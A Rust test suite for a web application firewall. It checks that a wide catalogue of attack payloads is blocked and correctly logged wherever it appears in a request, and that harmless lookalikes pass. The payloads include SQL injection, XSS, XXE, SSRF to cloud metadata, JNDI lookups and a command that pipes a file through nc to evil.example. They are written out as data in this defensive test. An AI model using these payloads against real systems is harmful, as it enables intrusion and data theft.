//! Every class of attack in every place where it can stand, in the real Envoy: the service sees nothing of it, and the audit line names the
//! class. Beside each, something ordinary that looks like it and passes.
#![allow(clippy::unwrap_used, clippy::panic, reason = "a test that cannot go on has failed")]

use std::time::Duration;

use portcullis_payload::Family;
use portcullis_tests::client::{Call, Response, percent_encoded};
use portcullis_tests::gateway::Gateway;
use portcullis_tests::protected::ProtectedService;
use portcullis_tests::{eventually, refusal};
use serde_json::{Value, json};

use Spot::{Cookie, Form, Header, Json, Multipart, Query, Segment, XmlAttribute, XmlText};

/// Where a value can stand.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Spot {
    Query,
    Form,
    Json,
    Multipart,
    Header,
    Cookie,
    Segment,
    XmlText,
    XmlAttribute,
}

impl Spot {
    const ALL: [Self; 9] = [Query, Form, Json, Multipart, Header, Cookie, Segment, XmlText, XmlAttribute];

    /// A request with the value there.
    fn call(self, value: &str) -> Call {
        let post = |kind: &str, body: String| Call::new("POST", "/api").header("content-type", kind).body(body);
        match self {
            Query => Call::get(&format!("/api?page=2&q={}", percent_encoded(value))),
            Form => post("application/x-www-form-urlencoded", format!("a=1&q={}", percent_encoded(value))),
            Json => post("application/json", json!({"id": 7, "deep": [{"q": value}]}).to_string()),
            Multipart => {
                let part = format!("--b\r\ncontent-disposition: form-data; name=\"q\"\r\n\r\n{value}\r\n--b--\r\n");
                post("multipart/form-data; boundary=b", part)
            }
            Header => Call::get("/api").header("x-custom", value),
            Cookie => {
                let sign = |sign: char| match sign {
                    ';' | ',' | ' ' | '"' | '\\' | '%' => format!("%{:02X}", u32::from(sign)),
                    other => other.to_string(),
                };
                Call::get("/api")
                    .header("cookie", &format!("theme=dark; q={}", value.chars().map(sign).collect::<String>()))
            }
            Segment => Call::get(&format!("/api/{}/parts", in_path(value))),
            XmlText => post("application/xml", format!("<order><note>{}</note></order>", in_xml(value))),
            XmlAttribute => post("text/xml", format!("<order note=\"{}\"/>", in_xml(value))),
        }
    }
}

/// A class, as one value.
struct Class {
    family: Family,
    attack: &'static str,
    /// What looks like it.
    ordinary: &'static str,
    /// Where it is none, and why.
    elsewhere: &'static [(Spot, &'static str)],
}

const fn class(family: Family, attack: &'static str, ordinary: &'static str) -> Class {
    Class { family, attack, ordinary, elsewhere: &[] }
}

/// Signs that a path must not have: it could be read in two ways, and is refused before payload rules see it.
const NOT_IN_PATHS: [char; 4] = ['/', '\\', '%', ';'];

const NO_TARGET: &str = "services redirect to what a query, a form or a document names";

const CLASSES: &[Class] = &[
    class(
        Family::Sqli,
        "1' UNION SELECT name, password FROM users-- ",
        "the union will select a chair from its members",
    ),
    class(Family::Nosqli, "{\"password\": {\"$ne\": null}}", "{\"price\": 5, \"currency\": \"$\"}"),
    class(Family::Xss, "<script>alert(document.cookie)</script>", "5 < 7 and the script of the play is <here>"),
    class(Family::Traversal, "../../../../srv/data/", "see above... and below"),
    class(Family::Traversal, "..\\..\\..\\windows\\", "see above... and below"),
    class(Family::Inclusion, "/etc/passwd", "etc. and the password of the day"),
    class(Family::Inclusion, "php://filter/convert.base64-encode/resource=index", "php: the filter of the resource"),
    class(Family::Command, "; cat notes.txt | nc evil.example 4444", "a cat; then a dog | maybe"),
    class(Family::Template, "{{''.__class__.__mro__[1].__subclasses__()}}", "{\"class\": \"first\"} and {name}"),
    class(Family::Ssrf, "http://169.254.169.254/latest/meta-data/iam", "see shop.example for the latest news"),
    class(Family::Xml, "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://evil.example/x\">]>", "the doctype of an entity"),
    class(Family::Lookup, "${jndi:ldap://evil.example/a}", "the names are in ${directory}"),
    class(Family::Shellshock, "() { :;}; echo x", "functions end with () and begin with {"),
    class(Family::Deserialisation, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "cm9tYW4gbnVtYmVycyBhcmUgZnVu"),
    class(Family::Deserialisation, "O:4:\"User\":1:{s:4:\"name\";s:1:\"x\";}", "O:4 is the ratio"),
    class(Family::Splitting, "a@b.example%0aBcc: d@e.example", "bcc: me, please; location: the second floor"),
    class(Family::Prototype, "__proto__[isAdmin]=true", "the prototype of a constructor"),
    class(Family::Php, "<?php phpinfo(); ?>", "php is a language, is it not?>"),
    class(Family::Java, "java.lang.Runtime", "java.time.Duration is long"),
    class(Family::Node, "function(){while(1){}}", "a function of the node, while it is here"),
    class(Family::Ldap, "*)(uid=*))(|(uid=*", "(a*b) and (c|d)"),
    class(Family::Xpath, "' or count(/*)=1 or '", "a user is a comment [1]"),
    class(Family::Graphql, "{__schema{types{name}}}", "{ users { id name } }"),
    class(Family::Ssi, "<!--#exec cmd=\"id\"-->", "<!-- a comment -->"),
    class(Family::Scanner, "root@a1b2.interact.sh", "root@a1b2.interact.example"),
    class(Family::Session, "http-equiv=\"set-cookie\"", "equivalent to a cookie that is set"),
    class(Family::Protocol, "report%00.pdf", "report v1.0.pdf"),
    class(Family::Own, "let me into the vault", "let me into the hall"),
    Class {
        family: Family::Redirect,
        attack: "https:google.com",
        ordinary: "https is safer",
        elsewhere: &[
            (Multipart, NO_TARGET),
            (Header, NO_TARGET),
            (Cookie, NO_TARGET),
            (Segment, NO_TARGET),
            (XmlText, NO_TARGET),
            (XmlAttribute, NO_TARGET),
        ],
    },
];

/// What is more than a value: the class, an attack, and a request that looks like it.
fn whole_requests() -> Vec<(Family, Call, Call)> {
    let upload = |file: &str| {
        let part = format!(
            "--b\r\ncontent-disposition: form-data; name=\"f\"; filename=\"{file}\"\r\ncontent-type: image/png\r\n\r\nx\r\n--b--\r\n"
        );
        Call::new("POST", "/api").header("content-type", "multipart/form-data; boundary=b").body(part)
    };
    let part = |head: &str| {
        let part = format!("--b\r\ncontent-disposition: form-data; name=\"f\"{head}\r\n\r\nx\r\n--b--\r\n");
        Call::new("POST", "/api").header("content-type", "multipart/form-data; boundary=b").body(part)
    };
    let post = |kind: &str, body: &str| Call::new("POST", "/api").header("content-type", kind).body(body);
    let get = |name: &str, value: &str| Call::get("/api").header(name, value);
    let (form, json) = ("application/x-www-form-urlencoded", "application/json");
    let deep = |levels: usize| format!("{{\"query\": \"{}{}\"}}", "{a".repeat(levels), "}".repeat(levels));
    let batch = |documents: usize| format!("[{}]", vec!["{\"query\": \"{a}\"}"; documents].join(","));
    let entity = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///srv/data\">]><r>&x;</r>";
    vec![
        (Family::Upload, upload("shell.php.jpg"), upload("about-php.jpg")),
        (Family::Upload, upload(".user.ini"), upload("user.initial.png")),
        (Family::Upload, get("x-filename", ".htaccess"), get("x-filename", "access.txt")),
        (
            Family::Scanner,
            get("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            get("user-agent", "curl/8.5.0"),
        ),
        (
            Family::Session,
            Call::get("/api?jsessionid=1A530637289A03B07199A44E8D531427"),
            get("cookie", "JSESSIONID=1A530637289A03B07199A44E8D531427"),
        ),
        (Family::Session, post(form, "PHPSESSID=9d1b2c3d4e5f"), post(form, "session_length=9")),
        (Family::Nosqli, Call::get("/api?user[$ne]=1"), Call::get("/api?user[name]=1")),
        (Family::Nosqli, post(json, "{\"user\": {\"$ne\": null}}"), post(json, "{\"age\": {\"$gt\": 21}}")),
        (
            Family::Prototype,
            post(json, "{\"__proto__\": {\"admin\": true}}"),
            post(json, "{\"prototype\": {\"admin\": true}}"),
        ),
        (
            Family::Deserialisation,
            post(json, "{\"$type\": \"System.Diagnostics.Process, System\"}"),
            post(json, "{\"type\": \"Person\"}"),
        ),
        (Family::Graphql, post(json, &deep(25)), post(json, &deep(6))),
        (Family::Graphql, post(json, &batch(30)), post(json, &batch(3))),
        (
            Family::Graphql,
            post("application/graphql", "{__schema{types{name}}}"),
            post("application/graphql", "{users{name}}"),
        ),
        (Family::Xml, post("text/xml", entity), post("text/xml", "<!DOCTYPE r><r>x</r>")),
        (
            Family::Lookup,
            post("text/xml", "<a><${jndi:ldap://evil.example/a}/></a>"),
            post("text/xml", "<a><jndi.ldap/></a>"),
        ),
        (
            Family::Lookup,
            get("authorization", "Bearer ${jndi:ldap://evil.example/a}"),
            get("authorization", "Bearer eyJhbGciOiJub25lIn0.e30."),
        ),
        (
            Family::Lookup,
            get("if-none-match", "${jndi:ldap://evil.example/a}"),
            get("if-none-match", "W/\"67ab43\", \"54ed;gzip\""),
        ),
        (
            Family::Lookup,
            get("if-modified-since", "${jndi:ldap://evil.example/a}"),
            get("if-modified-since", "Sun, 06 Nov 1994 08:49:37 GMT"),
        ),
        (
            Family::Lookup,
            get("cache-control", "${jndi:ldap://evil.example/a}"),
            get("cache-control", "no-cache, max-age=0"),
        ),
        (
            Family::Lookup,
            get("accept-encoding", "${jndi:ldap://evil.example/a}"),
            get("accept-encoding", "gzip;q=1.0, *;q=0"),
        ),
        (
            Family::Lookup,
            get("traceparent", "${jndi:ldap://evil.example/a}"),
            get("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
        ),
        (
            Family::Lookup,
            get("sec-ch-ua", "${jndi:ldap://evil.example/a}"),
            get("sec-ch-ua", "\"Not)A;Brand\";v=\"8\", \"Chromium\";v=\"138\""),
        ),
        (
            Family::Lookup,
            get("dpop", "${jndi:ldap://evil.example/a}"),
            get("dpop", "eyJ0eXAiOiJkcG9wK2p3dCJ9.e30.c2ln"),
        ),
        // `1 union select password from users:x`, and `alice:' or 1=1--`.
        (
            Family::Sqli,
            get("authorization", "Basic MSB1bmlvbiBzZWxlY3QgcGFzc3dvcmQgZnJvbSB1c2Vyczp4"),
            get("authorization", "Basic YWxpY2U6JyBvciAxPTEtLQ=="),
        ),
        (Family::Protocol, post("nonsense", "abc"), post("application/vnd.api+json", "{}")),
        (Family::Protocol, post("text/plain; charset=utf-7", "abc"), post("text/plain; charset=utf-8", "abc")),
        (Family::Protocol, post("text/plain; x=\"application/xml\"", "abc"), post("text/plain; x=\"y\"", "abc")),
        (
            Family::Protocol,
            post("multipart/form-data; boundary=a; boundary=b", "--a--"),
            post("multipart/form-data; boundary=a", "--a--\r\n"),
        ),
        (Family::Protocol, Call::new("POST", "/api").body("abc"), Call::new("POST", "/api")),
        (Family::Protocol, Call::new("GET", "/api").header("content-type", form).body("a=b"), post(form, "a=b")),
        (Family::Protocol, Call::new("MKCOL", "/api"), Call::new("PROPFIND", "/api")),
        (Family::Protocol, get("x-original-url", "/admin"), get("x-original-host", "shop.example")),
        (Family::Protocol, get("proxy", "http://evil.example"), get("proxy-connection", "keep-alive")),
        (Family::Protocol, get("range", "bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7"), get("range", "bytes=0-1023")),
        (
            Family::Protocol,
            get("accept-encoding", &"gzip, ".repeat(20)),
            get("accept-encoding", "gzip, deflate, br, zstd"),
        ),
        (Family::Protocol, get("cookie", "$Version=1; a=\"b\""), get("cookie", "version=1; a=b")),
        (Family::Protocol, part("\r\ncontent-encoding: gzip"), part("\r\ncontent-type: text/plain\r\nx-a: 1")),
        (
            Family::Protocol,
            part("\r\ncontent-transfer-encoding: base64"),
            part("\r\ncontent-transfer-encoding: binary"),
        ),
        (Family::Protocol, upload("a;b.png"), upload("a-b (1).png")),
    ]
}

fn start() -> ProtectedService {
    let targets = ["args", "headers", "cookies", "path", "xml", "xml_attributes"];
    ProtectedService::start(Gateway::builder().filter(json!({
        "version": 1,
        "payload_rules": {"vault": {"targets": targets, "transform": ["url_decode"], "contains": ["the vault"]}},
        "defaults": {"payload": {"max_body": "32KiB"}},
        "rules": [{"name": "all", "match": {}, "allow": "public"}],
    })))
}

/// Refused requests whose audit lines are still to be looked at.
#[derive(Default)]
struct Refused(Vec<(String, Family, String)>);

impl Refused {
    fn add(&mut self, response: &Response, family: Family, what: String) {
        self.0.push((response.header("x-request-id").unwrap().to_owned(), family, what));
    }

    /// What is not logged as what it is.
    fn mistakes(&self, api: &ProtectedService) -> Vec<String> {
        eventually(Duration::from_secs(5), || api.gateway.audit().len() >= self.0.len());
        let events = api.gateway.audit();
        let message = |id: &str| {
            let of_request = |event: &&Value| event.get("http.request.id").and_then(Value::as_str) == Some(id);
            events
                .iter()
                .find(of_request)
                .and_then(|event| event.get("message")?.as_str())
                .unwrap_or_default()
                .to_owned()
        };
        let is_named = |(id, family, _): &&(String, Family, String)| {
            !message(id).contains(&format!("points of {}", family.as_str()))
        };
        self.0.iter().filter(is_named).map(|(id, _, what)| format!("{what} is logged as {:?}", message(id))).collect()
    }
}

#[test]
fn every_class_is_refused_wherever_it_can_stand() {
    let api = start();
    let (mut mistakes, mut refused) = (Vec::new(), Refused::default());
    for Class { family, attack, elsewhere, .. } in CLASSES {
        for spot in Spot::ALL.into_iter().filter(|spot| !elsewhere.iter().any(|(other, _)| other == spot)) {
            let before = api.seen();
            let response = api.call(&spot.call(attack));
            let what = format!("{} in {spot:?}: {attack}", family.as_str());
            if spot == Segment && attack.contains(NOT_IN_PATHS) {
                if response.status != 400 || !response.text().contains("\"reason\":\"path_") {
                    mistakes.push(format!("{what}: {}", response.text()));
                }
            } else if let Err(error) = refusal::check(&response, 403, "payload_attack") {
                mistakes.push(format!("{what}: {error}"));
            } else {
                refused.add(&response, *family, what.clone());
            }
            if api.seen() != before {
                mistakes.push(format!("{what}: the service saw it"));
            }
        }
    }
    mistakes.extend(refused.mistakes(&api));
    assert!(mistakes.is_empty(), "{}", mistakes.join("\n"));
    api.gateway.check_unharmed().unwrap();
}

#[test]
fn what_looks_like_it_passes() {
    let api = start();
    let mut mistakes = Vec::new();
    for Class { family, ordinary, .. } in CLASSES {
        for spot in Spot::ALL {
            if spot == Segment && ordinary.contains(NOT_IN_PATHS) {
                continue;
            }
            let response = api.call(&spot.call(ordinary));
            if response.status != 200 {
                mistakes.push(format!("{} in {spot:?}: {ordinary}: {}", family.as_str(), response.text()));
            }
        }
    }
    assert!(mistakes.is_empty(), "{}", mistakes.join("\n"));
    api.gateway.check_unharmed().unwrap();
}

#[test]
fn what_is_more_than_a_value_is_refused_too() {
    let api = start();
    let (mut mistakes, mut refused) = (Vec::new(), Refused::default());
    for (family, attack, ordinary) in whole_requests() {
        let before = api.seen();
        let response = api.call(&attack);
        match refusal::check(&response, 403, "payload_attack") {
            Ok(()) => refused.add(&response, family, attack.to_string()),
            Err(error) => mistakes.push(format!("{}: {attack}: {error}", family.as_str())),
        }
        if api.seen() != before {
            mistakes.push(format!("{attack}: the service saw it"));
        }
        let response = api.call(&ordinary);
        if response.status != 200 {
            mistakes.push(format!("{}: {ordinary}: {}", family.as_str(), response.text()));
        }
    }
    mistakes.extend(refused.mistakes(&api));
    assert!(mistakes.is_empty(), "{}", mistakes.join("\n"));
    api.gateway.check_unharmed().unwrap();
}

#[test]
fn no_class_is_left_out() {
    let whole: Vec<Family> = whole_requests().into_iter().map(|(family, ..)| family).collect();
    for family in Family::ALL {
        let is_there = CLASSES.iter().any(|class| class.family == family) || whole.contains(&family);
        assert!(is_there, "no attack of {} is sent", family.as_str());
    }
    for class in CLASSES {
        assert!(class.elsewhere.iter().all(|(_, why)| !why.is_empty()));
        assert!(class.elsewhere.len() < Spot::ALL.len(), "{} stands nowhere", class.family.as_str());
    }
}

/// Only what needs it is escaped: other spellings are refused.
fn in_path(value: &str) -> String {
    let sign = |byte: u8| match byte {
        b'-' | b'.' | b'_' | b'~' => char::from(byte).to_string(),
        _ if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
        _ => format!("%{byte:02X}"),
    };
    value.bytes().map(sign).collect()
}

fn in_xml(value: &str) -> String {
    let signs = [("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ("\"", "&quot;"), ("'", "&apos;")];
    signs.iter().fold(value.to_owned(), |text, (sign, name)| text.replace(sign, name))
}
